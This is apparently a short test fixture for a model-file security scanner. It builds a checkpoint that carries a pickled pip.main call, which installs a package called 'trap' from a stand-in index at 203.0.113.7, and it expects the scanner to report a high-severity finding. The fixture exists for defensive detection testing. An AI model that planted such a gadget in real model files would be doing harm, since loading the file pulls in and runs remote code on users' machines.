"""Class: gadget. pip.main installs a package (CVE-2025-1716). The room has no pip: it stays a name."""

from pathlib import Path

from tests.adversarial.craft import call, checkpoint

EXPECT = {"finding": "SL501", "severity": "high", "detail": "calls pip.main"}


def make(folder: Path) -> Path:
    return checkpoint(
        folder, call("pip:main", ["install", "--index-url", "http://203.0.113.7/", "trap"])
    )
